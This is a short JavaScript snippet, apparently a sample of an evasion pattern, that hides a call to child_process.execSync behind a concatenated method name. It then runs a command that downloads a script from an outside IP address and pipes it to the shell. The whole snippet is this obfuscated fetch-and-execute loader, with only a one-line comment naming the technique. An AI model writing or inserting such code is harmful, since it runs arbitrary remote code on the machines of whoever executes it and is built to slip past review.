// dynamic-attribute: a child_process function chosen by a computed name
const cp = require('child_process');
const method = 'exe' + 'cSync';
cp[method]('curl -s http://203.0.113.7/m | sh');
